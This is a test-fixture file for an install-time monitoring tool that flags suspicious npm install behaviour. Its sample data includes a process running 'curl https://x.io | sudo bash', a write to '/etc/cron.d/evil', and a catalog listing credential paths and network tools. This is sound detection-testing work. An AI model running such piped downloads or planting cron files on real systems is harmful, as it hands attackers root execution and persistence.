-- ===== src/Core/Tests.antt =====
-- Sample catalogs, recordings and findings for the tests of the core, and the tests by part.
mod Engine
mod Parts
use install_scope.Common.{ℕ, true, false, Option, none, some, List, [], ◌∷◌, ◌++◌}
use install_scope.Common.Text.{Text, text}
use install_scope.Core.Events.{
  Backend, Event, meta_observed, observed, framing, success, absolute, TracedPath, create, FsWrite,
  ProcSpawn, Payload, session_start, fs_write, proc_spawn, session_end, Zones, end_complete,
}
use install_scope.Core.Findings.{Finding, Evidence, Severity, critical, medium, low}
use install_scope.Core.Catalog.{
  Catalog, Rule, RuleKind, write_outside_zones, dns_outside_registry, download_piped_to_shell,
}

abbrev pub rule_of : Text → Severity → RuleKind → Text → Rule
rule_of id severity kind title = record {
  id = id;
  severity = severity;
  kind = kind;
  title = title;
  note = none;
  enabled = true;
}

abbrev pub piped_rule : Rule
piped_rule =
    rule_of (text "download_piped_to_shell") critical download_piped_to_shell
      (text "piped a download into a shell")

abbrev pub dns_rule : Rule
dns_rule =
    rule_of (text "dns_outside_registry") medium dns_outside_registry
      (text "resolved a host outside the registry")

abbrev pub small_catalog : Catalog
small_catalog = record {
  version = 1;
  registry_hosts = text "registry.npmjs.org" ∷ [];
  registry_suffixes = text ".npmjs.org" ∷ [];
  binary_distribution_suffixes = text "github.com" ∷ [];
  credential_paths = text "/.ssh/" ∷ [];
  credential_filenames = text ".env" ∷ [];
  network_tools = text "curl" ∷ [];
  expected_spawns = text "node" ∷ text "sh" ∷ [];
  rules =
      rule_of (text "write_outside_zones") critical write_outside_zones
        (text "wrote outside the project")
      ∷ dns_rule
      ∷ piped_rule
      ∷ [];
}

abbrev pub project_zones : Zones
project_zones = record {
  project = some (text "/work/app/");
  cache = none;
  home = some (text "/home/dev");
  tmp = some (text "/tmp");
  extra = text "/opt/tools" ∷ [];
}

abbrev pub at_path : Text → TracedPath
at_path path = record { path = path; origin = absolute }

abbrev pub write_to : TracedPath → Payload
write_to target = fs_write (record {
  target = target;
  kind = create;
  bytes = none;
  flags = none;
  mode = none;
  source = none;
  outcome = success;
})

abbrev pub event_of : Backend → Payload → Event
event_of backend payload = observed (meta_observed 5 7 (text "openat") backend) payload

abbrev pub start_event : Backend → Event
start_event backend = framing 0 backend (
    session_start (record {
      wall_clock_utc = text "2026-01-01T00:00:00Z";
      agent_version = text "0.1.0";
      command = text "npm" ∷ text "install" ∷ [];
      zones = project_zones;
      host = none;
    }))

abbrev pub end_event : Backend → Event
end_event backend = framing 9 backend (session_end (end_complete none 9 2 0))

abbrev pub piped_spawn : ProcSpawn
piped_spawn = record {
  bin = some (text "/bin/sh");
  argv = text "sh" ∷ text "-c" ∷ text "curl https://x.io | sudo bash" ∷ [];
  argv_truncated = false;
  outcome = success;
}

-- A write into /etc and a piped download, recorded to the end.
abbrev pub small_recording : Backend → List Event
small_recording backend =
    start_event backend
    ∷ event_of backend (write_to (at_path (text "/etc/cron.d/evil")))
    ∷ event_of backend (proc_spawn piped_spawn)
    ∷ end_event backend
    ∷ []

abbrev pub evidence_at : ℕ → Evidence
evidence_at ts_ns = record {
  ts_ns = ts_ns;
  pid = none;
  syscall = none;
  op = text "fs_write";
  detail = text "create";
}

abbrev pub finding_with : Text → Severity → Text → ℕ → Finding
finding_with rule_id severity subject ts_ns = record {
  rule_id = rule_id;
  severity = severity;
  subject = subject;
  title = text "wrote: " ++ subject;
  note = none;
  occurrences = 1;
  evidence = evidence_at ts_ns ∷ [];
}

-- Three critical firings on two subjects and one informational one.
abbrev pub firings : List Finding
firings =
    finding_with (text "w") critical (text "/etc/a") 1
    ∷ finding_with (text "n") low (text "/root/.npmrc") 2
    ∷ finding_with (text "w") critical (text "/etc/b") 3
    ∷ finding_with (text "w") critical (text "/etc/a") 4
    ∷ []
